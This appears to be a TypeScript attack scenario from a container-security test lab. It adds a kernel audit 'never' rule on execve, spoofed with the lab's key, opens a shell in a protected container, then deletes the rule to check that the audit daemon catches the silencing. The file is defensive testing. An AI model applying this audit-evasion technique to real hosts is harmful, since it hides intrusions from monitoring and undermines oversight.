/**
 * Attack (T1562.012 Impair Defenses: Disable or Modify Linux Audit System,
 * then T1609 and T1059.004 a shell in the container): root on the node
 * puts one kernel audit rule of its own first on the syscall exit list,
 * `-A exit,never -F arch=b64 -S execve`, opens a shell in a running
 * protected container, and removes the rule. The first rule that matches a
 * syscall decides, so no execve on the host is recorded while it is there.
 * It carries the lab's own key (`il:<lab>:`, which root reads in
 * `auditctl -l`), so that a defence which takes keyed rules for the lab's
 * is fooled too. Auditing stays on and every rule of the audit layer stays
 * listed, unchanged.
 *
 * The rule is added in the node's initial PID namespace, where root on a
 * real node is and where the kernel takes audit netlink requests
 * (lab/node/init-pid-namespace.ts). The rule lists are host-wide, so the
 * scenarios of this attack run alone (the `@host-audit` tag,
 * steps/support/hooks.ts). The rule is removed whatever the outcome, unless
 * a defence removed it first.
 *
 * What must catch it: the audit daemon. The kernel writes a CONFIG_CHANGE
 * record (`op=add_rule`) for the new rule; the daemon reads the rule lists
 * then (for a keyed exit-list rule, at its next tick) and takes a `never`
 * rule, or any rule of the exclude list, for what it is: records
 * suppressed, whatever its key. It raises an alert naming the lab's running
 * containers and removes the rule (lab/audit/node/daemon.ts, "Kernel
 * auditing silenced").
 */
import { labKey } from '../../audit/index.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { rootAuditctl, shellWhileAuditSilenced } from './audit-kernel-disable.ts';

/** The rule after -A (first on the list) or -d; `auditctl -l` lists it as `-a never,exit …`. */
const neverExec = (node: LabNodeHandle) => ['exit,never', '-F', 'arch=b64', '-S', 'execve', '-F', `key=${labKey(node.labId)}`];
const LISTED = (node: LabNodeHandle) => `-a never,exit -F arch=b64 -S execve -F key=${labKey(node.labId)}`;

const listed = async (node: LabNodeHandle) => (await rootAuditctl(node, ['-l'])).split('\n').some((l) => l.trim() === LISTED(node));

export const auditNeverRule: Technique = {
  name: 'audit-never-rule',
  async run(ctx) {
    let removedByDefence = false;
    const result = await shellWhileAuditSilenced(
      ctx,
      `put the kernel audit rule "${LISTED(ctx.node)}" first (no execve recorded; the lab's key on it)`,
      async (node) => {
        await rootAuditctl(node, ['-A', ...neverExec(node)]);
        return { ruleAdded: LISTED(node) };
      },
      async (node) => {
        if (await listed(node)) await rootAuditctl(node, ['-d', ...neverExec(node)]);
        else removedByDefence = true;
      },
    );
    result.evidence.ruleGoneBeforeCleanup = removedByDefence;
    return result;
  },
};
